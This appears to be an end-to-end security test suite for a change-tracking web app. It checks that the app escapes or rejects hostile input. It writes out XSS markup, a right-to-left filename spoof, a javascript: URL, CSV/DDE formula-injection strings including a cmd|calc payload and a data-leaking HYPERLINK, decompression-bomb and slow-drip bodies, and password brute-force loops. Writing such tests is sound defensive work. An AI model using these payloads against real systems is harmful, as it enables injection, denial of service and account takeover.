import { PassThrough } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { sign } from '@octokit/webhooks-methods';
import { applicationUrl, webhookSecret } from '@/e2e/application';
import { asked } from '@/e2e/asked';
import { expect, test } from '@/e2e/fixtures';
import { member } from '@/e2e/member';

/** Runs wherever it is taken for markup. */
const markup =
  '<img src="x" onerror="window.slipped = true"><script>window.slipped = true</script>';
/** Turns what follows it around, so that `fdp.exe` reads as `exe.pdf`. */
const turned = '\u202efdp.';

const yesterday = new Date(Date.now() - 86_400_000).toISOString();
const merged = (repository: string, more: object) => ({
  type: 'change.merged',
  repository,
  number: 1,
  mergedAt: yesterday,
  ...more,
});

test('titles, branches and people from outside are text', async ({ page, post, repository }) => {
  const title = `${markup} ${turned}exe`;
  const agent = { authorship: 'agent', agent: 'claude-code' };
  const told = { title, branch: markup, body: markup, author: { login: markup }, ...agent };
  expect(await post(merged(repository, told))).toMatchObject({ status: 200 });
  for (const path of [`/changes?repository=${repository}`, `/changes/${repository}/1`]) {
    await page.goto(path);
    const name = page.getByText(title).first();
    await expect(name).toBeVisible();
    // What it turns around ends with it.
    expect(await name.evaluate((node) => node.closest('[dir=auto], bdi') !== null)).toBe(true);
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(await page.evaluate(() => 'slipped' in window)).toBe(false);
  }
});

test('an address that is none of the web becomes no link', async ({
  page,
  post,
  deliver,
  settled,
  repository,
}) => {
  const script = 'javascript:alert(1)';
  const change = { title: 'Linked', authorship: 'human' };
  expect(await post(merged(repository, { ...change, url: script }))).toMatchObject({
    status: 400,
    answer: { error: { path: 'url' } },
  });
  const delivery = crypto.randomUUID();
  await deliver(
    {
      action: 'closed',
      repository: { full_name: repository, html_url: script, default_branch: 'main' },
      pull_request: {
        number: 2,
        title: 'Linked by a host',
        html_url: script,
        user: { login: 'dev-1', type: 'User' },
        merged: true,
        merged_at: '2025-03-02T12:00:00Z',
        created_at: '2025-03-01T12:00:00Z',
        updated_at: '2025-03-02T12:00:00Z',
        merge_commit_sha: '1'.repeat(40),
        head: { ref: 'branch', sha: '2'.repeat(40) },
        base: { ref: 'main', sha: '3'.repeat(40) },
      },
    },
    'pull_request',
    delivery,
  );
  expect(await settled(delivery)).toBe('applied');
  await page.goto(`/changes/${repository}/2`);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Linked by a host');
  expect(await page.locator('a[href^="javascript" i]').count()).toBe(0);
});

test('a path that is a formula is text in the rows that are saved', async ({
  request,
  post,
  repository,
}) => {
  const change = { title: 'Saved', authorship: 'human', paths: ['=cmd|x/y.ts'] };
  expect(await post(merged(repository, change))).toMatchObject({ status: 200 });
  const csv = await (await request.get(`/api/v1/rows.csv?repository=${repository}`)).text();
  expect(csv).toContain("'=cmd|x");
  expect(csv).not.toMatch(/(^|[,\n]"?)=/);
});

/** The cells of a CSV file, line by line. */
const cellsOf = (csv: string) =>
  [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n)/g)].map(([, cell = '']) =>
    cell.replace(/^"(.*)"$/s, '$1').replaceAll('""', '"'),
  );
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

test('what is a formula in a title or a reason is text in every list that is saved', async ({
  request,
  post,
  repository,
}) => {
  const title = '=HYPERLINK("https://example.org?"&A1,"open")';
  const cause = "+2+3+cmd|' /C calc'!A0";
  const reason = '@SUM(1+1)*cmd|A0';
  const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000).toISOString();
  const change = { title, authorship: 'agent', agent: 'codex', mergedAt: daysAgo(60) };
  const incident = { incident: 'INC-1', title: cause, changes: [{ number: 1 }] };
  const told = [
    merged(repository, change),
    { type: 'incident.opened', repository, at: daysAgo(58), ...incident },
  ];
  expect(await post(told)).toMatchObject({ status: 200 });
  const id = `${repository}/1`;
  const override = { id, authorship: 'agent', agent: 'codex', reason };
  expect((await request.put('/api/v1/override', { data: override })).status()).toBe(200);
  const saved: [string, string[]][] = [
    [`/api/v1/changes.csv?repository=${repository}`, [title]],
    [`/api/v1/regressions.csv?repository=${repository}`, [title, cause]],
    [`/api/v1/audit.csv?search=${encodeURIComponent(repository)}`, [reason]],
  ];
  for (const [path, formulas] of saved) {
    const response = await request.get(path);
    expect(response.headers()['content-disposition'], path).toContain('attachment');
    const cells = cellsOf(await response.text());
    expect(cells.filter(isFormula), path).toEqual([]);
    for (const formula of formulas) expect(cells, path).toContain(`'${formula}`);
  }
});

const deep = '['.repeat(100_000) + ']'.repeat(100_000);
const refusals: [string, string, object, string | Buffer, number][] = [
  ['nested without end', '/api/v1/events', {}, deep, 400],
  [
    'nested without end, at sign-in',
    '/api/auth/sign-in/email',
    {},
    deep.slice(75_000, -75_000),
    400,
  ],
  ['larger than is taken', '/api/v1/events', {}, ' '.repeat(11 * 1024 * 1024), 413],
  [
    'compressed, whatever it would become',
    '/api/v1/events',
    { 'content-encoding': 'gzip' },
    gzipSync(' '.repeat(10_000_000)),
    415,
  ],
];
for (const [name, path, headers, data, status] of refusals) {
  test(`a body that is ${name} is refused`, async ({ request, token }) => {
    const authorization = `Bearer ${token}`;
    const response = await request.post(path, {
      headers: {
        'content-type': 'application/json',
        authorization,
        origin: applicationUrl,
        ...headers,
      },
      data: Buffer.from(data),
    });
    expect(response.status()).toBe(status);
    expect((await request.get('/healthz')).ok()).toBe(true);
  });
}

test('a body that never comes to its end is refused, however steadily it drips', async ({
  token,
}) => {
  const drip = new PassThrough();
  const dripping = setInterval(() => drip.write(' '), 500);
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const { status } = await asked('127.0.0.1', '/api/v1/events', headers, drip);
  clearInterval(dripping);
  drip.destroy();
  expect(status).toBe(408);
});

test('an address that cannot be read names nothing', async ({ request }) => {
  for (const path of ['/agents/%', '/api/auth/%ff', '/deployments?environment=%00']) {
    expect((await request.get(path)).status(), path).toBeGreaterThanOrEqual(400);
    expect((await request.get(path)).status(), path).toBeLessThan(500);
  }
  const asked = await request.get('/api/v1/rates?area=%00');
  expect(asked.status()).toBe(400);
  expect(await asked.json()).toMatchObject({ error: { path: 'area' } });
});

test('headers without end are refused', async () => {
  const { status } = await asked('127.0.0.1', '/healthz', { 'x-much': 'x'.repeat(17_000) });
  expect(status).toBe(431);
});

test('wrong proofs are refused with the time to wait, and good ones beside them are not', async ({
  token,
}) => {
  const wrong = () => asked('127.0.0.43', '/api/v1/events', { authorization: 'Bearer wrong' });
  let last = await wrong();
  expect(last.status).toBe(401);
  for (let count = 0; count < 400 && last.status === 401; count++) last = await wrong();
  expect(last.status).toBe(429);
  expect(Number(last.headers['retry-after'])).toBeGreaterThan(0);
  const elsewhere = { authorization: 'Bearer wrong', 'x-forwarded-for': '198.51.100.7' };
  expect((await asked('127.0.0.43', '/api/v1/events', elsewhere)).status).toBe(429);
  // Empty, but not refused.
  const good = { authorization: `Bearer ${token}` };
  expect((await asked('127.0.0.43', '/api/v1/events', good)).status).toBe(400);
  const delivery = {
    'content-type': 'application/json',
    'x-github-event': 'ping',
    'x-github-delivery': crypto.randomUUID(),
  };
  const sent = async (secret: string) => {
    const signature = { 'x-hub-signature-256': await sign(secret, '{}') };
    const headers = { ...delivery, ...signature };
    return (await asked('127.0.0.43', '/api/webhooks/github', headers, '{}')).status;
  };
  expect(await sent('another secret')).toBe(429);
  expect(await sent(webhookSecret)).toBe(202);
});

test('a stolen session does not let its password be tried for long', async () => {
  const { state } = await member('viewer');
  const cookie = state.cookies.map(({ name, value }) => `${name}=${value}`).join('; ');
  const headers = { 'content-type': 'application/json', origin: applicationUrl, cookie };
  const statuses: number[] = [];
  for (const path of ['two-factor/enable', 'two-factor/disable', 'change-password']) {
    for (let count = 0; count < 5; count++) {
      const guess = `guess ${count} of somebody`;
      const body = {
        password: guess,
        currentPassword: guess,
        newPassword: 'chosen by the thief 1',
        // The attempts must not count for another account instead.
        email: `${crypto.randomUUID()}@example.org`,
      };
      const told = JSON.stringify(body);
      const answer = await asked('127.0.0.44', `/api/auth/${path}`, headers, told);
      statuses.push(answer.status);
      if (answer.status === 429) expect(Number(answer.headers['retry-after'])).toBeGreaterThan(0);
    }
  }
  // It was signed in with once.
  expect(statuses.filter((status) => status !== 429)).toHaveLength(9);
  expect(statuses.slice(9)).toEqual(Array(6).fill(429));
});

test('what is open to anyone is not open without end', async () => {
  const open = () => asked('127.0.0.45', '/api/auth/ok', {}, '', 'GET');
  let last = await open();
  expect(last.status).toBe(200);
  for (let count = 0; count < 700 && last.status === 200; count++) last = await open();
  expect(last.status).toBe(429);
  expect(Number(last.headers['retry-after'])).toBeGreaterThan(0);
  expect((await asked('127.0.0.46', '/api/auth/ok', {}, '', 'GET')).status).toBe(200);
});
